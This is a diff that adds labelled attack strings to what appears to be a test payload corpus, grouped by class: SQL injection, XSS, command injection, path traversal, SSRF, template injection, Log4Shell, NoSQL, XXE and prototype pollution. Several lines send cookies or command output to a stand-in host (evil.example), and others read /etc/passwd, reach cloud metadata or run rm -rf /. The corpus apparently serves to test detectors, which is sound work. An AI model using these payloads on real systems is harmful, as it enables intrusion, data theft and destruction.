@@ -247,3 +247,113 @@ PROTO_QUERY = [
     ("a[__proto__][b]=c", "nested bracket"),
     ("constructor.prototype.role=admin", "dotted constructor"),
 ]
+
+# Second batch: more variety per class (same rules: written for this corpus).
+SQLI += [
+    ("'; COPY (SELECT '') TO PROGRAM 'curl evil.example/$(id)'--", "stacked, postgres copy to program"),
+    ("1) or sleep(4)#", "time-based, parenthesised"),
+    ("\" or \"\"=\"", "boolean, double-quoted"),
+    ("') UNION SELECT NULL,table_name FROM information_schema.columns--", "union, parenthesised string"),
+    ("0 UNION SELECT sql FROM sqlite_master", "union, sqlite"),
+    ("' || UTL_INADDR.get_host_name((select banner from v$version where rownum=1)) || '", "error-based, oracle"),
+    ("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "blind, rlike"),
+    ("admin' #", "login bypass, hash comment"),
+    ("-1' or 2 between 1 and 3--", "boolean, between"),
+    ("1 AND 'x' LIKE 'x'", "boolean, like"),
+    ("'+(select load_file('/etc/passwd'))+'", "file read, mysql"),
+    ("name);DELETE FROM sessions;--", "stacked, delete"),
+]
+XSS += [
+    ("<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\">", "iframe srcdoc"),
+    ("<a href=\"#\" onclick=\"fetch('//evil.example/?c='+document.cookie)\">win a prize</a>", "onclick exfiltration"),
+    ("<form action=javascript:alert(1)><button>go</button></form>", "form action javascript"),
+    ("<base href=\"//evil.example/\">", "base tag hijack"),
+    ("<img src=x:x onerror=eval(location.hash.slice(1))>", "eval location hash"),
+    ("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "meta refresh javascript"),
+    ("<x contenteditable onblur=alert(1)>edit me</x>", "custom tag onblur"),
+    ("<audio src=x onerror=prompt(1)>", "audio onerror"),
+    ("<style>@import '//evil.example/x.css';</style>", "style import"),
+    ("<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>", "svg xlink href"),
+]
+CMDI += [
+    (";sleep 5;", "sleep between separators"),
+    ("x\ncat /etc/passwd", "raw newline separator"),
+    ("$(id>/tmp/pwned)", "substitution, redirect"),
+    ("a | nslookup $(whoami).evil.example", "dns exfiltration"),
+    ("; perl -e 'system(\"id\")'", "perl one-liner"),
+    ("|| curl evil.example/$(hostname)", "or-list, exfiltration"),
+    ("& ping -n 10 127.0.0.1 &", "windows timing"),
+    ("test.png\" ; rm -rf / --no-preserve-root ; \"", "quote breakout, destructive"),
+]
+TRAVERSAL += [
+    ("..%2f..%2f..%2fetc%2fpasswd", "encoded slashes only"),
+    ("....\\\\....\\\\windows\\\\win.ini", "windows filter-stripping"),
+    ("/..%252f..%252f..%252fetc/passwd", "double-encoded slash"),
+    ("..%c1%9c..%c1%9cboot.ini", "overlong backslash"),
+    ("../WEB-INF/web.xml", "java webapp config"),
+    ("/proc/self/cmdline", "proc cmdline"),
+    ("C:/Windows/System32/config/SAM", "windows forward slashes"),
+    ("%2e%2e/%2e%2e/%2e%2e/etc/passwd", "encoded dots"),
+]
+SSRF += [
+    ("http://0x7f.0x0.0x0.0x1/", "dotted hex loopback"),
+    ("http://017700000001/", "whole octal loopback"),
+    ("http://[::]:80/", "ipv6 unspecified"),
+    ("http://[0:0:0:0:0:ffff:7f00:1]/", "ipv6-mapped hex loopback"),
+    ("http://[::ffff:a9fe:a9fe]/latest/meta-data/", "ipv6-mapped metadata"),
+    ("http://0251.0376.0251.0376/latest/user-data", "octal metadata"),
+    ("file:///proc/self/environ", "file scheme"),
+    ("http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "kubernetes api"),
+    ("http://192.168.0.1:8080/manager/html", "private 192.168, tomcat manager"),
+    ("ldap://127.0.0.1:389/dc=corp", "ldap to loopback"),
+]
+SSTI += [
+    ("{{4*'4'}}", "jinja string multiply probe"),
+    ("${{7*7}}", "mixed delimiter probe"),
+    ("{{ ''.__class__.__base__.__subclasses__() }}", "jinja base subclasses"),
+    ("<%= system('id') %>", "erb system"),
+    ("[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "thymeleaf inline"),
+    ("{% import os %}{{ os.system('id') }}", "jinja import (tornado)"),
+    ("${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "freemarker inline execute"),
+    ("{{ self.__init__.__globals__.__builtins__ }}", "jinja builtins"),
+]
+LOG4SHELL += [
+    ("${jndi:ldap://127.0.0.1#evil.example:1389/a}", "hash host confusion"),
+    ("${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/x}", "lower in protocol"),
+    ("${j${::-n}di:corba://evil.example/}", "corba"),
+    ("${jndi:nis://evil.example/}", "nis"),
+    ("${jndi:http://evil.example/x}", "http"),
+    ("${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}", "base64 lookup"),
+]
+NOSQL_JSON += [
+    ({"username": {"$regex": "^a.*"}, "password": {"$regex": ".*"}}, "$regex both"),
+    ({"$and": [{"email": {"$ne": 1}}, {"role": "admin"}]}, "$and"),
+    ({"password": {"$not": {"$eq": "wrong"}}}, "$not/$eq"),
+    ({"pipeline": [{"$match": {"$where": "sleep(2000) || true"}}]}, "aggregation $where"),
+    ({"owner": {"$ne": "me"}, "search": {"$text": {"$search": "invoice"}}}, "$ne with $text"),
+    ({"filter": "{\"$where\": \"this.isAdmin == true\"}"}, "stringified operator document"),
+]
+NOSQL_BRACKET += [
+    ("username[$ne]=&password[$ne]=", "bracket $ne empty"),
+    ("filter[owner][$ne]=me&limit=100", "nested bracket $ne"),
+]
+XXE += [
+    ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "jar:http://evil.example/x.jar!/a.dtd">%a;]><x/>',
+     "jar protocol"),
+    ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "netdoc:/etc/passwd">]><r>&x;</r>', "netdoc"),
+    ('<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
+     '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\'>%local_dtd;]><message>x</message>',
+     "local dtd reuse"),
+    ('<?xml version="1.0"?>\n<!DOCTYPE invoice [\n<!ENTITY ref SYSTEM "http://10.0.0.3:8080/internal">\n]>\n'
+     '<invoice><number>INV-1</number><ref>&ref;</ref></invoice>', "ssrf via entity, invoice"),
+]
+PROTO_JSON += [
+    ([{"op": "add", "path": "/__proto__/admin", "value": True}], "json patch path"),
+    ({"constructor": {"prototype": {"outputFunctionName": "x;process.mainModule.require('child_process')"
+                                                          ".execSync('id');s"}}}, "template gadget"),
+    ({"items": [], "__proto__": {"status": 200}}, "__proto__ beside data"),
+]
+PROTO_QUERY += [
+    ("__proto__[outputFunctionName]=x", "bracket gadget key"),
+    ("filter[constructor][prototype][x]=1", "nested constructor"),
+]
